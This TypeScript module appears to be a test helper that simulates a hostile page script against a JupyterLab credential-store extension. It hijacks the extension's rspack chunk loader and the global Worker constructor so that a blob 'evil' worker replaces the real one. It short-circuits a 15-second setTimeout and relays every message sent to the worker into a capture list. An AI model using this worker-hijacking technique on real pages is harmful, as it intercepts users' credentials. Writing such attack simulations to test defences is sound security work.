/** A hostile script's worker, in place of the extension's. */
import type { ICall } from './call';

export interface ISupplant {
  /**
   * Have the extension, which is not in use yet, load the script's own worker, and lose patience with
   * any other at once. Resolves with how many workers' addresses are the script's now.
   */
  supplant(): Promise<number>;
}

/** Runs in the page. */
export function supplant({ got }: ICall): ISupplant {
  type Any = any;

  const supplant = async () => {
    const evil = URL.createObjectURL(
      new Blob([
        `new BroadcastChannel('evil').postMessage('here');
        onmessage = ({ data }) =>
          new BroadcastChannel('evil').postMessage(JSON.stringify(data));
        postMessage({ event: 'ready' });`
      ])
    );
    new BroadcastChannel('evil').onmessage = ({ data }) => void got.push(data);
    const load = await new Promise<Any>(resolve =>
      (globalThis as Any).rspackChunkjupyterlab_credential_store.push([
        ['evil-supplant'],
        {},
        resolve
      ])
    );
    const { u } = load;
    const workers = new Set<string>();
    for (const [, id] of String(u).matchAll(/(\d+):\s*"[0-9a-f]{16}"/g)) {
      const text = await (await fetch(load.p + u(id))).text();
      if (text.includes('importScripts')) {
        workers.add(id);
      }
    }
    load.u = (id: Any) => (workers.has(String(id)) ? evil : u(id));
    const Native = Worker;
    globalThis.Worker = class extends Native {
      constructor() {
        super(evil);
      }
    };
    const later = setTimeout;
    globalThis.setTimeout = ((then: Any, ms: number, ...more: Any[]) =>
      // As long as the extension waits for its worker.
      later(then, ms === 15_000 ? 0 : ms, ...more)) as typeof setTimeout;
    return workers.size;
  };

  return { supplant };
}
